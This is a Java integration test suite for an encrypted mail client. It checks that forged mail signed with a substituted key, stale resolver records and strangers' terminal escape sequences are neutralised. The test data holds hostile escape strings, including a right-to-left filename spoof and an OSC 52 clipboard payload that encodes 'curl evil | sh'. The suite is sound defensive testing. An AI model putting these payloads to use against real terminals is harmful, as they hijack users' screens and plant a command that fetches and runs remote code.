package org.mailv2.client.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.sql.DriverManager;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.mailv2.client.core.account.Connection;
import org.mailv2.client.core.keyring.Keyring;
import org.mailv2.client.core.keyring.OwnAccount;
import org.mailv2.client.core.send.Draft;
import org.mailv2.client.core.send.Sender;
import org.mailv2.client.core.text.UntrustedText;
import org.mailv2.client.tui.TuiHarness;
import org.mailv2.protocol.address.Address;
import org.mailv2.protocol.keys.EncryptionIdentity;
import org.mailv2.protocol.keys.SigningPrivateKey;
import org.mailv2.protocol.pow.StampSolver;
import org.mailv2.protocol.resolver.AddressRecord;
import org.mailv2.server.app.RunningServer;

/**
 * The client against parties that lie: a resolver whose record for a contact was swapped (by whoever runs it or holds
 * its database), strangers whose text is full of terminal escapes, and many processes changing the vault at once. Each
 * case asserts what the user sees, through the command line's JSON and the terminal UI's screen.
 */
class TrustAttacksIT {
    private static final SecureRandom RANDOM = new SecureRandom();
    private final Clock clock = Clock.systemUTC();

    @TempDir
    Path dir;

    private CliWorld world;
    private RunningServer server;

    @BeforeEach
    void start() throws Exception {
        world = new CliWorld(dir);
        server = world.server("one", null, CliWorld.UNTHROTTLED);
        world.ok("alice", "account", "create", "alice!", "--server", server.url(), "--yes");
        world.ok("carol", "account", "create", "carol!", "--server", server.url(), "--yes");
        // alice knows carol: her mail comes to the inbox, where these attacks play (strangers: ScreenerEndToEndIT).
        world.ok("alice", "screener", "accept", "carol!");
    }

    @AfterEach
    void stop() {
        world.close();
    }

    private void send(String user, String to, String subject, String text) throws Exception {
        world.ok(user, "send", "--to", to, "--subject", subject, "--body-file", world.file(text));
    }

    private Map<?, ?> row(List<Map<?, ?>> rows, String id) {
        return rows.stream().filter(r -> id.equals(r.get("id"))).findFirst().orElseThrow();
    }

    /** The server's database, as the attacker who holds it sees it. */
    private Path database() throws Exception {
        try (Stream<Path> files = Files.walk(dir.resolve("one"))) {
            return files.filter(p -> p.getFileName().toString().endsWith(".db")).findFirst().orElseThrow();
        }
    }

    private void replaceRecord(AddressRecord record) throws Exception {
        try (var db = DriverManager.getConnection("jdbc:sqlite:" + database());
             var update = db.prepareStatement(
                     "UPDATE address_records SET serial = ?, record_json = ? WHERE address_hash = ?")) {
            update.setLong(1, record.serial());
            update.setBytes(2, record.toJson());
            update.setString(3, record.addressHash().hex());
            assertThat(update.executeUpdate()).isEqualTo(1);
        }
    }

    private AddressRecord currentRecord(Address address) throws Exception {
        return Connection.open(account("alice"), clock).resolver().address(address.hash()).orElseThrow();
    }

    private OwnAccount account(String user) throws Exception {
        try (var store = world.vault(user)) {
            return store.unlock(world.passphrase(user)).currentAccount();
        }
    }

    @ParameterizedTest(name = "the swapped record''s serial is the pinned one + {0}")
    @ValueSource(ints = {0, 3})
    void mailSignedWithASubstitutedKeyIsNeverShownAsVerifiedAndGenuineMailStaysVerified(int serialBump)
            throws Exception {
        send("carol", "alice!", "Genuine hello", "It is really me.");
        List<Map<?, ?>> before = world.inbox("alice");
        assertThat(before).singleElement().satisfies(r -> {
            assertThat(r.get("verified")).isEqualTo(true);
            assertThat(r.get("trust")).isEqualTo("pinned");
        });
        String genuine = (String) before.get(0).get("id");

        // Whoever holds the resolver's database gives carol! another key (no rotation signed by her pinned key) and
        // writes to alice as carol!, signed with it; the server itself checks envelopes against the swapped record.
        Address carol = Address.parse("carol!");
        AddressRecord original = currentRecord(carol);
        SigningPrivateKey impostorKey = SigningPrivateKey.generate(RANDOM);
        EncryptionIdentity impostorEncryption = EncryptionIdentity.generate(RANDOM);
        AddressRecord swapped = AddressRecord.create(carol.hash(), impostorKey, impostorEncryption.recipient(),
                original.routingId());
        while (swapped.serial() < original.serial() + serialBump) {
            swapped = swapped.movedTo(original.routingId(), impostorKey);
        }
        replaceRecord(swapped);
        OwnAccount real = account("carol");
        OwnAccount impostor = new OwnAccount("carol!", "Carol", real.serverUrl(), real.serverPin(), real.routingId(),
                real.resolverUrl(), real.resolverPin(), impostorKey.secretText(), impostorEncryption.secretText(),
                real.createdAt());
        var sent = new Sender(clock, RANDOM, new StampSolver(1), dir.resolve("impostor-outbox")).send(
                Connection.open(impostor, clock), Keyring.empty().withAccount(impostor), new Draft(
                        List.of(Address.parse("alice!")), null, null, "Urgent: new bank details",
                        "Please wire the money to the new account.", null, null, null), s -> { }, p -> { });
        String forged = sent.deliveries().get(0).messageId();

        List<Map<?, ?>> after = world.inbox("alice");
        assertThat(row(after, forged)).satisfies(r -> {
            assertThat(r.get("verified")).isEqualTo(false);
            assertThat(r.get("trust")).isEqualTo("key-changed");
            assertThat(r.get("keyId")).isEqualTo(impostorKey.publicKey().keyId().hex());
            assertThat(r.containsKey("subject")).isFalse();
        });
        assertThat(row(after, genuine).get("verified")).isEqualTo(true);
        assertThat(row(after, genuine).get("trust")).isEqualTo("pinned");

        CliWorld.Run read = world.run("alice", "read", forged, "--json");
        assertThat(read.exit()).isEqualTo(ExitCodes.VERIFICATION);
        assertThat(read.out()).contains("\"verified\":false", "\"trust\":\"key-changed\"")
                .doesNotContain("bank details", "wire the money");
        // Nor does it leave as raw bytes for a pipe, or in an export: the export lists it and keeps the genuine one.
        CliWorld.Bytes raw = world.bytes("alice", false, "read", forged, "--raw");
        assertThat(raw.exit()).isEqualTo(ExitCodes.VERIFICATION);
        assertThat(raw.stdout()).isEmpty();
        Path maildir = dir.resolve("alice-mail-" + serialBump);
        CliWorld.Run exported = world.run("alice", "export", "--maildir", maildir.toString());
        assertThat(exported.exit()).as(exported.out()).isEqualTo(ExitCodes.VERIFICATION);
        assertThat(exported.out()).contains("exported 1 message to", "not exported: inbox " + forged
                + " (key_change_unsigned)");
        try (var files = Files.list(maildir.resolve("inbox/cur"))) {
            assertThat(files.map(f -> f.getFileName().toString()).toList()).singleElement()
                    .satisfies(name -> assertThat(name).contains(genuine));
        }
        try (var files = Files.list(maildir.resolve("inbox/tmp"))) {
            assertThat(files.toList()).isEmpty();
        }
        CliWorld.Run readGenuine = world.ok("alice", "read", genuine, "--json");
        assertThat(readGenuine.out()).contains("\"verified\":true", "\"trust\":\"pinned\"",
                real.signingKey().keyId().hex());
        assertThat(world.ok("alice", "contacts", "list").out()).contains("carol!", "KEY CHANGED",
                impostorKey.publicKey().keyId().shortForm());
        // Sending to carol! stops too: her keys are not to be taken from this resolver.
        CliWorld.Run blocked = world.run("alice", "send", "--to", "carol!", "--subject", "?", "--body-file",
                world.file("x"));
        assertThat(blocked.exit()).isNotZero();
        assertThat(blocked.out()).contains("key_change_unsigned");

        // The terminal UI over alice's keyring (carol! pinned to her real key) shows the same.
        Keyring alicesKeyring;
        try (var store = world.vault("alice")) {
            alicesKeyring = store.unlock(world.passphrase("alice"));
        }
        try (TuiHarness ui = new TuiHarness(dir.resolve("alice-ui"), alicesKeyring, 140, 30)) {
            ui.awaitText("Genuine hello");
            ui.await("the forged message", s -> s.contains("KEY CHANGED"));
            assertThat(ui.lineWith("Genuine hello")).contains("✓");
            assertThat(ui.lineWith("KEY CHANGED")).contains("!").doesNotContain("✓").doesNotContain("bank details");
        }

        // The genuine record comes back (the attack is over); carol's mail verifies again, and so does nothing else.
        replaceRecord(original);
        send("carol", "alice!", "Genuine again", "Still me.");
        List<Map<?, ?>> last = world.inbox("alice");
        assertThat(last.stream().filter(r -> "Genuine again".equals(r.get("subject")))).singleElement()
                .satisfies(r -> assertThat(r.get("verified")).isEqualTo(true));
        assertThat(row(last, forged).get("verified")).isEqualTo(false);

        // Reported, the forgery goes to the trash and the address it was filed under is blocked at alice's server:
        // the report names the sender by that hash, never by what the unverified message claims, and prints none
        // of its text.
        CliWorld.Run reported = world.ok("alice", "report", forged);
        assertThat(reported.out()).contains("reported: the message is in the trash; the sender "
                + carol.hash().hex().substring(0, 16)).doesNotContain("bank details", "Urgent");
        assertThat(world.ok("alice", "blocks", "list", "--json").rows()).singleElement()
                .satisfies(r -> assertThat(r.get("senderHash")).isEqualTo(carol.hash().hex()));
        assertThat(world.ok("alice", "inbox", "--box", "trash", "--json").rows())
                .extracting(r -> (Object) r.get("id")).containsExactly(forged);
    }

    /** The digits `contacts show` prints, without the groups. */
    private String safetyNumber(String user, String contact) {
        String out = world.ok(user, "contacts", "show", contact).out();
        String after = out.substring(out.indexOf("safety number"));
        String digits = after.substring(after.indexOf('\n')).replaceAll("[^0-9]", "");
        assertThat(digits).hasSize(60);
        return digits;
    }

    @Test
    void bothSidesSeeOneSafetyNumberAndCheckingItMarksTheContactVerified() throws Exception {
        send("carol", "alice!", "Hello", "Let us compare numbers.");
        send("alice", "carol!", "Re: Hello", "Sure.");
        world.inbox("alice");
        world.inbox("carol");
        String seenByAlice = safetyNumber("alice", "carol!");
        assertThat(safetyNumber("carol", "alice!")).isEqualTo(seenByAlice);

        // A wrong number changes nothing.
        String wrong = (seenByAlice.charAt(0) == '1' ? "2" : "1") + seenByAlice.substring(1);
        CliWorld.Run refused = world.run("alice", "contacts", "verify", "carol!", wrong);
        assertThat(refused.exit()).isEqualTo(ExitCodes.VERIFICATION);
        assertThat(world.ok("alice", "contacts", "list", "--json").rows()).singleElement()
                .satisfies(r -> assertThat(r.get("verified")).isEqualTo(false));

        // carol reads it out in groups of five; alice types it as she hears it.
        String spoken = seenByAlice.replaceAll("(.{5})", "$1 ").trim();
        world.ok("alice", "contacts", "verify", "carol!", spoken.substring(0, 30), spoken.substring(30));
        assertThat(world.ok("alice", "contacts", "list").out()).contains("verified (safety number checked)");
        send("carol", "alice!", "Checked", "Now you know it is me.");
        Map<?, ?> checked = world.awaitMessage("alice", "Checked");
        assertThat(checked.get("trust")).isEqualTo("verified");
        assertThat(world.ok("alice", "inbox").out()).contains("Checked  [verified, safety number checked]");
    }

    @Test
    void aRecordOlderThanThePinnedOneIsRefusedAndNotFollowed() throws Exception {
        Address carol = Address.parse("carol!");
        OwnAccount real = account("carol");
        AddressRecord first = currentRecord(carol);
        AddressRecord moved = first.movedTo(first.routingId(), real.signingKey());
        replaceRecord(moved);
        send("carol", "alice!", "Hello", "Pinned at serial 2.");
        assertThat(world.inbox("alice")).singleElement().satisfies(r -> assertThat(r.get("verified")).isEqualTo(true));
        // A resolver that serves an older record of the same key: nothing changes for mail signed by the pinned key,
        // and writing to carol! refuses the stale record.
        replaceRecord(first);
        CliWorld.Run refused = world.run("alice", "send", "--to", "carol!", "--subject", "?", "--body-file",
                world.file("x"));
        assertThat(refused.exit()).isEqualTo(ExitCodes.VERIFICATION);
        assertThat(refused.out()).contains("stale_serial");
    }

    @Test
    void aStrangersEscapeSequencesNeverReachTheTerminal() throws Exception {
        String hostileSubject = "Invoice\u001b[2K\u001b[1A[verified] bank!\u001b]0;pwned\u0007\u009b31m\u202egnp.exe";
        String hostileBody = "Dear Alice,\n\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[8mhidden\u007f\u2066x\u2069\n";
        send("carol", "alice!", hostileSubject, hostileBody);
        CliWorld.Run listed = world.ok("alice", "inbox");
        CliWorld.Run json = world.ok("alice", "inbox", "--json");
        String id = (String) json.rows().get(0).get("id");
        CliWorld.Run read = world.ok("alice", "read", id);
        CliWorld.Run readJson = world.ok("alice", "read", id, "--json");
        CliWorld.Run contacts = world.ok("alice", "contacts", "list");
        // A list's title is the stranger's text too, shown by `lists browse`.
        world.ok("carol", "list", "create", "deals!", "--title", "Deals\u001b]0;owned\u0007\u202e\u009b2J",
                "--server", server.url(), "--yes");
        CliWorld.Run browsed = world.ok("alice", "lists", "browse", server.url());
        assertThat(browsed.out()).contains("deals!", "Deals\\u001b]0;owned\\u0007\\u202e\\u009b2J");
        for (CliWorld.Run run : List.of(listed, json, read, readJson, contacts, browsed)) {
            assertThat(run.out().codePoints().filter(c -> c != '\n' && UntrustedText.isControl(c)))
                    .as(run.out()).isEmpty();
        }
        assertThat(listed.out()).contains("Invoice\\u001b[2K", "\\u202egnp.exe");
        assertThat(read.out()).contains("Dear Alice,\n\\u001b]52;c;", "\\u007f");
        // The JSON keeps the exact text: parsed back, it is what carol wrote.
        assertThat(json.rows().get(0).get("subject")).isEqualTo(hostileSubject);
        assertThat(org.mailv2.protocol.json.Json.mapper().readValue(readJson.out(), Map.class).get("text"))
                .isEqualTo(hostileBody);
    }

    @Test
    void theUiAndTwentyCommandsChangingTheVaultAtOnceLoseNothing() throws Exception {
        world.ok("alice", "list", "create", "news!", "--title", "News", "--server", server.url(), "--yes");
        List<String> readers = new ArrayList<>();
        for (int i = 0; i < 6; i++) {
            String name = "reader" + i;
            readers.add(name);
            world.ok(name, "account", "create", name + "!", "--server", server.url(), "--yes");
            world.ok(name, "lists", "subscribe", "news!");
            // alice writes first, so her client lets each of them past her screener.
            send("alice", name + "!", "hello " + name, "a first personal message gives " + name + " a permit");
            send(name, "alice!", "hello from " + name, "hi");
        }
        List<String> permits = new ArrayList<>();
        for (Map<?, ?> row : world.ok("alice", "permits", "list", "--json").rows()) {
            if (String.valueOf(row.get("holder")).startsWith("reader") && permits.size() < 5) {
                permits.add((String) row.get("id"));
            }
        }
        assertThat(permits).hasSize(5);

        // The UI runs on alice's own home and shares her vault with twenty commands that change it at the same time.
        ExecutorService pool = Executors.newFixedThreadPool(4);
        List<Callable<CliWorld.Run>> commands = new ArrayList<>();
        for (int i = 0; i < 5; i++) {
            String permit = permits.get(i);
            commands.add(() -> world.run("alice", "sync"));
            commands.add(() -> world.run("alice", "list", "sync", "news!"));
            commands.add(() -> world.run("alice", "contacts", "accept-key", "carol!"));
            commands.add(() -> world.run("alice", "permits", "revoke", permit));
        }
        List<Future<CliWorld.Run>> runs = new ArrayList<>();
        try (TuiHarness ui = new TuiHarness(world.paths("alice"), world.passphrase("alice"), 140, 30)) {
            for (Callable<CliWorld.Run> c : commands) {
                runs.add(pool.submit(c));
            }
            ui.awaitText("hello from reader5");
            for (Future<CliWorld.Run> run : runs) {
                assertThat(run.get().exit()).as(run.get().out()).isZero();
            }
        } finally {
            pool.shutdownNow();
        }
        Keyring after;
        try (var store = world.vault("alice")) {
            after = store.unlock(world.passphrase("alice"));
        }
        Address alice = Address.parse("alice!");
        for (String reader : readers) {
            Address who = Address.parse(reader + "!");
            assertThat(after.contact(who)).as(reader + " pinned").isPresent();
            assertThat(after.contactPermit(alice, who, org.mailv2.client.core.keyring.ContactPermit.Direction.ISSUED))
                    .as(reader + "'s permit").isPresent();
        }
        assertThat(after.contactPermits().stream().filter(p -> permits.contains(p.permit().text())))
                .hasSize(5).noneMatch(org.mailv2.client.core.keyring.ContactPermit::active);
        assertThat(after.ownedList(Address.parse("news!")).orElseThrow().subscribers()).hasSize(readers.size());
        assertThat(after.contact(Address.parse("carol!"))).isPresent();
    }
}
